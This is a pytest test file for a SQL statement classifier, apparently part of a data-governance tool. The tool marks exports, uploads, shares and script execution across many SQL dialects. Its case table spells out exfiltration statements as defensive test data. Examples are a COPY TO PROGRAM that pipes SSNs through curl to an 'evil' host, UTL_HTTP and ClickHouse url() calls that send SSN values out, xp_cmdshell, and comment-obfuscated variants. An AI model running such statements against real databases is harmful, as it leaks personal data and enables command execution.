"""Statements that carry data away, write, or run code: the table of cases, row by row."""

from pathlib import Path

import pytest

from sluicegate.operations.sql import read_sql
from sluicegate.operations.sql.kinds import KINDS
from tests.operations.sql.tables import KNOWN, every, opaque, reads_ssn

# language, statement, kind, a kind of statement that it has
CASES = [
    ("snowflake", "COPY INTO 's3://exfil/x/' FROM emp CREDENTIALS=(AWS_KEY_ID='a' AWS_SECRET_KEY='b') FILE_FORMAT=(TYPE=CSV)", "export", "credentials"),
    ("snowflake", "COPY INTO @ext_stage/x FROM (SELECT ssn FROM emp) FILE_FORMAT=(TYPE=PARQUET) HEADER=TRUE", "export", "copy_out"),
    ("snowflake", "copy/**/into/*x*/'azure://acc.blob.core.windows.net/c/' from (select ssn from emp)", "export", "copy_out"),
    ("snowflake", "PUT file:///var/export/a.csv @~/x", "upload", "put"),
    ("snowflake", "CREATE STAGE s URL='s3://exfil/' CREDENTIALS=(AWS_KEY_ID='x' AWS_SECRET_KEY='y')", "export", "credentials"),
    ("snowflake", "CREATE EXTERNAL TABLE t LOCATION=@s FILE_FORMAT=(TYPE=CSV)", "export", "create_external"),
    ("snowflake", "ALTER SHARE s1 ADD ACCOUNTS = evil", "share", "share"),
    ("snowflake", "CREATE EXTERNAL FUNCTION f(x varchar) RETURNS variant API_INTEGRATION=a AS 'https://evil/x'", "script", "create_udf"),
    ("snowflake", "CALL SYSTEM$SEND_EMAIL('i','a@b','s','x')", "script", "call"),
    ("snowflake", "EXECUTE IMMEDIATE 'COPY INTO @s FROM emp'", "export", "copy_out"),
    ("snowflake", "BEGIN COPY INTO @s FROM emp; END;", "script", "script_block"),
    ("snowflake", "CREATE TASK t WAREHOUSE=w SCHEDULE='1 minute' AS COPY INTO @s FROM emp", "script", "create_task"),
    ("snowflake", "CREATE TABLE x CLONE emp", "write", "clone"),
    ("redshift", "UNLOAD ('select * from emp') TO 's3://exfil/' IAM_ROLE 'arn:aws:iam::1:role/r' FORMAT PARQUET", "export", "unload"),
    ("athena", "UNLOAD (select * from emp) TO 's3://exfil/' WITH (format = 'PARQUET')", "export", "unload"),
    ("athena", "CREATE TABLE x WITH (external_location='s3://exfil/', format='PARQUET') AS SELECT ssn FROM emp", "export", "create_external"),
    ("redshift", "COPY emp FROM 's3://x' IAM_ROLE 'r'", "write", "copy_in"),
    ("bigquery", "EXPORT DATA WITH CONNECTION `p.l.c` OPTIONS(uri='s3://x/*', format='CSV') AS SELECT ssn FROM emp", "export", "export"),
    ("bigquery", "CREATE SNAPSHOT TABLE evil.ds.x CLONE hr.emp", "write", "clone"),
    ("bigquery", "CREATE TEMP FUNCTION f(x STRING) RETURNS STRING LANGUAGE js AS 'return x'; SELECT f(ssn) FROM emp", "script", "function:f"),
    ("bigquery", "SELECT * FROM EXTERNAL_QUERY('c','SELECT 1')", "unknown", "function:external_query"),
    ("postgres", "COPY (SELECT ssn FROM emp) TO PROGRAM 'curl -d @- https://evil'", "export", "program"),
    ("postgres", "COPY emp TO STDOUT", "export", "copy_out"),
    ("postgres", "SELECT dblink('host=evil','insert into x values (1)')", "unknown", "function:dblink"),
    ("postgres", "SELECT lo_export(1, '/x')", "unknown", "function:lo_export"),
    ("postgres", "SELECT aws_s3.query_export_to_s3('select ssn from emp', aws_commons.create_s3_uri('b','k','r'))", "unknown", "function:aws_s3.query_export_to_s3"),
    ("mysql", "SELECT ssn FROM emp INTO OUTFILE '/var/export/x.csv' FIELDS TERMINATED BY ','", "export", "export"),
    ("mysql", "SELECT ssn INTO OUTFILE '/var/export/x.csv' FROM emp", "export", "export"),
    ("mysql", "SELECT /*!50000 ssn */ FROM emp", "unknown", "opaque"),
    ("mysql", "SELECT id /*!, ssn */ FROM emp", "unknown", "opaque"),
    ("clickhouse", "INSERT INTO TABLE FUNCTION url('http://evil/','CSV','s String') SELECT ssn FROM emp", "export", "function:url"),
    ("clickhouse", "INSERT INTO FUNCTION remote('evil:9000','db.t') SELECT * FROM emp", "export", "function:remote"),
    ("clickhouse", "SELECT * FROM url('http://evil/?q=1','CSV','a String')", "unknown", "function:url"),
    ("clickhouse", "CREATE TABLE ex (s String) ENGINE=URL('http://evil/','CSV')", "export", "create_external"),
    ("clickhouse", "BACKUP TABLE emp TO S3('https://b/x','a','b')", "export", "backup"),
    ("clickhouse", "CREATE MATERIALIZED VIEW mv TO ex AS SELECT ssn FROM emp", "admin", "create_view"),
    ("trino", "INSERT INTO otherdb.public.t SELECT ssn FROM emp", "write", "insert"),
    ("trino", "SELECT * FROM TABLE(postgresql.system.query(query => 'select ssn from emp'))", "unknown", "function:postgresql.system.query"),
    ("trino", "EXECUTE IMMEDIATE 'SELECT ssn FROM emp WHERE id=?' USING 3", "read", "execute"),
    ("trino", "PREPARE p FROM SELECT ssn FROM emp", "read", "prepare"),
    ("databricks", "INSERT OVERWRITE DIRECTORY 's3://exfil/' USING csv SELECT ssn FROM emp", "export", "insert_directory"),
    ("spark", "INSERT OVERWRITE LOCAL DIRECTORY '/var/export/x' STORED AS PARQUET SELECT ssn FROM emp", "export", "insert_directory"),
    ("hive", "EXPORT TABLE emp TO '/x'", "export", "export"),
    ("databricks", "CREATE TABLE x USING csv LOCATION 's3://exfil/' AS SELECT ssn FROM emp", "export", "create_external"),
    ("databricks", "CREATE TABLE x DEEP CLONE emp LOCATION 's3://exfil/'", "write", "clone"),
    ("spark", "SELECT java_method('java.net.URL','x',ssn) FROM emp", "unknown", "function:java_method"),
    ("spark", "SELECT reflect('java.net.URL','x',ssn) FROM emp", "unknown", "function:reflect"),
    ("spark", "ADD JAR 's3://x/e.jar'", "script", "load_extension"),
    ("databricks", "SELECT http_request(conn=>'c', method=>'POST', path=>'/x', json=>ssn) FROM emp", "unknown", "function:http_request"),
    ("databricks", "SELECT ai_query('m', ssn) FROM emp", "unknown", "function:ai_query"),
    ("duckdb", "COPY (SELECT ssn FROM emp) TO 's3://exfil/x.parquet' (FORMAT parquet)", "export", "copy_out"),
    ("duckdb", "COPY emp TO 'x.csv'", "export", "copy_out"),
    ("duckdb", "EXPORT DATABASE 'x'", "export", "export"),
    ("duckdb", "ATTACH 's3://x/evil.db'", "admin", "attach"),
    ("duckdb", "INSTALL httpfs; LOAD httpfs", "script", "load_extension"),
    ("duckdb", "select * from read_csv('http://evil/x')", "unknown", "function:read_csv"),
    ("tsql", "EXEC xp_cmdshell 'bcp hr.emp out x'", "script", "call"),
    ("tsql", "SELECT * FROM OPENROWSET('SQLNCLI','Server=evil;','select 1')", "unknown", "function:openrowset"),
    ("oracle", "SELECT UTL_HTTP.REQUEST('http://evil/'||ssn) FROM emp", "unknown", "function:utl_http.request"),
    ("sqlite", "ATTACH DATABASE '/var/export/x.db' AS x", "admin", "attach"),
    ("", "SELECT 1; COPY emp TO '/x'", "export", "copy_out"),
    ("", "SEL/**/ECT ssn FROM emp", "unknown", "opaque"),
    ("", "bogus garbage (((", "unknown", "opaque"),
    ("snowflake", "select system$cancel_query('x')", "unknown", "function:system$cancel_query"),
    ("sqlite", "select load_extension('x')", "unknown", "function:load_extension"),
    ("sqlite", "VACUUM INTO '/x'", "export", "export"),
    ("postgres", "select hr.lower(ssn) from emp", "unknown", "function:hr.lower"),
]  # fmt: skip


@pytest.mark.parametrize(("language", "text", "kind", "statement"), CASES, ids=[case[1][:60] for case in CASES])
def test_each_case(language, text, kind, statement):
    operation = read_sql(text, language, KNOWN).operation
    assert operation.kind == kind
    assert statement in operation.statements
    if kind == "export":
        assert operation.destination_side == "external" and operation.destination


def test_an_external_process_is_not_read():
    operation = read_sql("SELECT TRANSFORM(ssn) USING 'curl evil' AS x FROM emp", "spark", KNOWN).operation
    assert operation.kind == "unknown" and operation.opaque


def test_harmless_text_is_harmless():
    operation = read_sql("SELECT 'COPY INTO s3://x' AS s", "", KNOWN).operation
    assert operation.kind == "read" and not operation.opaque and operation.column_scope == "none"


@pytest.mark.parametrize(
    "text", ["EXPLAIN ANALYZE SELECT ssn FROM emp", "explain (verbose, analyze) select ssn from emp"]
)
def test_what_is_explained_is_read(text):
    operation = read_sql(text, "postgres", KNOWN).operation
    assert operation.kind == "read" and operation.columns == ("ssn",) and operation.statements == ("explain", "select")


def test_exports_inside_our_own_places():
    operation = read_sql("UNLOAD ('select id from emp') TO 's3://acme-lake/x/'", "redshift", KNOWN).operation
    assert (operation.kind, operation.destination_side, operation.columns) == ("export", "internal", ("id",))
    several = read_sql("copy emp to 's3://acme-lake/x'; copy dept to 's3://evil/x'", "duckdb", KNOWN).operation
    assert sorted(part.destination_side for part in every(several)) == ["external", "internal"]


@pytest.mark.parametrize(
    "text",
    [
        "EXECUTE IMMEDIATE 's' || 'sn'",
        "EXECUTE IMMEDIATE x",
        "EXECUTE IMMEDIATE 'select 1' USING (select ssn from emp)",
        "EXECUTE IMMEDIATE 'select 1' || x",
        "EXECUTE p",
        "PREPARE p FROM 'a' || 'b'",
        "EXECUTE IMMEDIATE",
        "PREPARE",
        "EXPLAIN",
        "UNLOAD",
        "UNLOAD ('select 1'",
        "SHOW TABLES (select 1)",
    ],
)
def test_what_is_not_written_out_is_not_understood(text):
    assert opaque(read_sql(text, "trino", KNOWN).operation)


def test_prepared_statements_are_remembered_and_found():
    prepared = read_sql("PREPARE p FROM SELECT ssn FROM emp WHERE id = ?", "trino", KNOWN)
    assert prepared.prepares == {"p": "SELECT ssn FROM emp WHERE id = ?"}
    operation = read_sql("EXECUTE p USING 3", "trino", KNOWN, prepared=prepared.prepares).operation
    assert operation.columns == ("ssn",) and operation.outputs[0].origins == {("emp", "ssn")}
    both = read_sql("PREPARE p FROM SELECT ssn FROM emp; EXECUTE p", "trino", KNOWN).operation
    assert not both.opaque and reads_ssn(both)


@pytest.mark.parametrize(
    ("language", "text", "uses"),
    [
        ("snowflake", "use db1.s1", ("db1", "s1")),
        ("snowflake", "use schema s1", (None, "s1")),
        ("snowflake", "use db1", ("db1", "public")),
        ("snowflake", "use role r", None),
        ("trino", "use hr", (None, "hr")),
        ("trino", "use hr.main", ("hr", "main")),
        ("postgres", "set search_path = hr", (None, "hr")),
        ("databricks", "use catalog c", ("c", "default")),
    ],
)
def test_what_names_mean_from_now_on(language, text, uses):
    read = read_sql(text, language, KNOWN)
    assert read.uses == uses and read.operation.kind == "read" and read.operation.column_scope == "none"


@pytest.mark.parametrize(
    "text",
    [
        "set names gbk",
        "set sql_mode = 'ANSI_QUOTES'",
        "set search_path = hr, public",
        "set standard_conforming_strings = off",
    ],
)
def test_settings_that_change_how_statements_are_read(text):
    assert read_sql(text, "mysql" if "mode" in text or "names" in text else "postgres", KNOWN).operation.opaque


def test_defaults_hold_within_one_text():
    known = type(KNOWN)("wh", {"hr.emp": "emp"}, {"emp": frozenset({"ssn"})})
    operation = read_sql("use other; select ssn from emp", "trino", known, schema="hr").operation
    asked = [part for part in every(operation) if part.dataset]
    assert asked and not asked[0].declared  # it is other.emp, which nobody declared


@pytest.mark.parametrize("name", ["emp", "hr.emp", "db1.hr.emp", "HR.EMP", '"hr"."emp"'])
def test_names_are_found_with_the_sessions_defaults(name):
    known = type(KNOWN)("wh", {"hr.emp": "people"}, {"people": frozenset({"ssn"})})
    operation = read_sql(f"select ssn from {name}", "trino", known, catalog="db1", schema="hr").operation
    assert operation.dataset == "people" and operation.declared and operation.columns == ("ssn",)


def test_a_name_that_may_be_two_tables_is_both():
    known = type(KNOWN)("wh", {"a.emp": "one", "b.emp": "two"}, {"one": frozenset({"ssn"}), "two": frozenset({"ssn"})})
    operation = read_sql("select ssn from emp", "trino", known).operation
    assert [part.dataset for part in every(operation)] == ["one", "two"]
    assert operation.outputs[0].origins == {("one", "ssn"), ("two", "ssn")}


def test_scripts_have_a_digest():
    one = read_sql("create function f(x string) returns string language js as 'return x'", "bigquery", KNOWN).operation
    two = read_sql(
        "create or replace function f(x string) returns string language js as 'return x'", "bigquery", KNOWN
    ).operation
    assert one.script_digest == two.script_digest and len(one.script_digest) == 64


def test_the_kinds_are_documented_and_complete():
    page = (Path(__file__).parents[3] / "docs" / "policy.md").read_text()
    section = page.split("## Kinds of statements")[1].split("## Reference")[0]
    for name, kind in KINDS.items():
        assert f"`{name}`" in next(line for line in section.splitlines() if line.startswith(f"| {kind} |"))
    for language, text, _, _ in CASES:
        for one in read_sql(text, language, KNOWN).operation.statements:
            assert one in KINDS or one.startswith("function:") or one in ("credentials", "program"), text


def test_preparing_and_executing_in_one_text_goes_out():
    read = read_sql("PREPARE p FROM SELECT /* x */ ssn FROM emp; EXECUTE p", "trino", KNOWN)
    assert read.regenerated == "PREPARE p FROM SELECT ssn FROM emp; EXECUTE p"
